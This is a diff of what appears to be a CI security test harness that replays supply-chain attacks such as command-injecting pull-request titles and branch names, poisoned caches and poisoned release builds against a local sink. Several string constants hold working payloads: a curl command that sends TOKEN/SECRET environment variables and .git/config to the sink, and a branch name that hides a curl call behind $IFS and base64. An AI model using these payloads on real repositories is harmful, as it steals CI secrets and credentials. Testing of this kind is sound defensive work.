@@ -45,9 +45,7 @@ runs:
       run: |
         { env | grep -E 'TOKEN|SECRET' ; cat .git/config ; } | curl -s --noproxy '*' --data-binary @- %s || true
 """
-TITLE = (
-    'x"; curl -s --noproxy \'*\' --data-binary "$(env | grep TOKEN; cat .git/config)" %s; echo "'
-)
+TITLE = 'x"; curl -s --noproxy \'*\' --data-binary "$(env | grep TOKEN; cat .git/config)" %s; echo "'
 # No ref name has a space or a colon in it, so the shell is made to write them.
 BRANCH = "x$(curl${IFS}-s${IFS}-d1${IFS}127.0.0.1$(echo${IFS}Og==|base64${IFS}-d)%d)"
 MARKER = "triage_model/marker.txt"  # in a wheel whose build was poisoned
@@ -157,9 +155,7 @@ def _moved_tags(lab: Any, project: Project) -> Iterator[Replay]:
 def _words(lab: Any, project: Project, scratch: Path) -> Iterator[Replay]:
     """A stranger's pull request whose title and branch are commands."""
     with lab.sink() as sink:
-        change = _pull(
-            project, scratch, BRANCH % sink.port, TITLE % sink.url, "README.md", "a typo\n"
-        )
+        change = _pull(project, scratch, BRANCH % sink.port, TITLE % sink.url, "README.md", "a typo\n")
         runs = project.runs("pull_request", pull=change, ports=[sink.port])
         runs += project.runs("pull_request_target", pull=change, ports=[sink.port])
         yield _stolen("a title and a branch name", sink)
@@ -184,9 +180,7 @@ def _cache(lab: Any, project: Project, scratch: Path, version: str) -> Iterator[
         found = "no wheel was released"
     yield Replay("a poisoned cache", "succeeded" if bad else "stopped", f"{where}; {found}")
     released = bool(wheels) and all(run.result == "success" for run in runs)
-    yield Replay(
-        "  a release", "works" if released else "broken", f"{_results(runs)}; wheels: {len(wheels)}"
-    )
+    yield Replay("  a release", "works" if released else "broken", f"{_results(runs)}; wheels: {len(wheels)}")
 
 
 def _pull(project: Project, scratch: Path, branch: str, title: str, path: str, text: str) -> Pull:
@@ -267,9 +261,7 @@ def _next_version(folder: Path, number: int) -> str:
         _text(file) or "",
     )
     if count != 1:
-        raise MalformedInput(
-            f"{file.name} names no version", mend='it is to say __version__ = "1.4.0"'
-        )
+        raise MalformedInput(f"{file.name} names no version", mend='it is to say __version__ = "1.4.0"')
     file.write_text(text, encoding="utf-8")
     return str(re.search(r'__version__ = "(.+)"', text)[1])  # type: ignore[index]
 
